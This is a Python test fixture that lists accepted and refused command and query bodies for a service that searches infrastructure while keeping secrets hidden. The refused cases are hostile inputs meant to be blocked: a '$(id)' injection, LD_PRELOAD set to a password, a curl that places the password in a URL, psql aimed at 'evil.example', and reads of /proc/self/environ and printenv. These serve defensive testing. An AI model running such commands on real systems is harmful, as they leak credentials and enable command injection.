"""The calls of the search for secrets: what is accepted, what is refused with which code.

In: nothing.
Out: bodies of queries.
Must not know: any value of a secret.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

FORMS = (
    *("plain", "base64", "base64b", "base64c", "urlsafe", "hex", "upperhex", "reversed"),
    *("url", "form", "json", "widejson", "environ", "argv"),
)
CUT_AT = (1, 3, 6, 9, 16, 24, 40, 64, 120)
PSQL = "psql -h {host} -p {port} -U {username} -d {database} -c "
PODS = "kubectl get pods -n {namespace}"
Body = dict[str, Any]

DATABASES: Body = {"source": "type:cnpg", "target": "sub_components"}


def acting(word: str) -> str:
    """Return a check of a database whose program acts by a word."""
    return f"PGPASSWORD={{password}} {PSQL}\"SELECT '{word}'\""


def accepted() -> Iterator[Body]:
    """Return checks whose programs say their secret in every form on every stream."""
    for form in FORMS:
        for stream in ("out", "err", "both"):
            yield {**DATABASES, "command": acting(f"say-{form}-{stream}")}
    for form in ("plain", "base64", "hex", "reversed", "url", "json"):
        for before in CUT_AT:
            yield {**DATABASES, "command": acting(f"long-{form}-{before}")}
    failing, passing = acting("say-environ-both"), acting("say-environ-out")
    yield {**DATABASES, "command": failing, "on_failure": acting("say-hex-both")}
    yield {**DATABASES, "command": passing, "on_success": acting("say-base64-both")}
    yield {**DATABASES, "command": passing, "on_success": failing, "on_failure": failing}
    yield {**DATABASES, "command": acting("say-plain-out") + " | grep -v begin"}
    yield {**DATABASES, "command": acting("say-plain-out") + " | grep begin"}
    yield {**DATABASES, "command": acting("facts")}
    yield {**DATABASES, "command": acting("say-plain-out"), "dry_run": True}
    yield {"source": "valkey", "command": "REDISCLI_AUTH={password} valkey-cli -h {host} ping"}
    yield {"source": "kafka", "command": PODS}
    for target in ("component", "sub_components", "links_to", "links_from", "attributes"):
        yield {"source": "all", "target": target}
    yield {**DATABASES, "select": ["name", "password"]}
    yield {**DATABASES, "where": {"password__exists": True}}


def _check(command: str, source: str = "kafka") -> Body:
    return {"source": source, "command": command}


REFUSED: dict[str, Body] = {
    "E_CHARSET": _check("nc -z {host} é"),
    "E_TOO_LONG": _check("nc " + "x" * 600),
    "E_TOKEN": _check("nc -z {host} $(id)"),
    "E_PARSE": _check(f"{PODS} |"),
    "E_LIMIT": _check(f"{PODS} | grep a | grep b | grep c"),
    "E_PROGRAM": _check("printenv"),
    "E_ENV_NAME": {**DATABASES, "command": "LD_PRELOAD={password} " + PSQL + "'SELECT 1'"},
    "E_ENV_VALUE": {**DATABASES, "command": "PGPASSWORD={username} " + PSQL + "'SELECT 1'"},
    "E_SECRET_POSITION": {**DATABASES, "command": "curl http://{host}:{port}/{password}"},
    "E_DESTINATION": {**DATABASES, "command": "psql -h evil.example -c 'SELECT 1'"},
    "E_ARG": {**DATABASES, "command": PSQL + "'SELECT 1' -f /proc/self/environ"},
    "E_SQL": {**DATABASES, "command": PSQL + "'SELECT pg_sleep(1)'"},
    "E_UNKNOWN_VAR": _check("nc -z {host} {nothing_of_that_name}"),
    "E_VAR_UNSET": _check("nc -z {host} {external_stack}"),
    "E_VAR_VALUE": _check("curl http://{host}:{port}/{title}"),
    "E_EXTERNAL": _check("curl http://{host}:{port}/", source="langflow"),
    "E_SECRET_FIELD": {**DATABASES, "where": {"password": "guess"}},
    "E_FIELD": {**DATABASES, "select": ["pasword"]},
    "E_OPERATOR": {**DATABASES, "where": {"password__like": "guess"}},
    "E_SOURCE": {"source": "type:secret"},
    "E_TARGET": {"source": "all", "target": "secrets"},
}
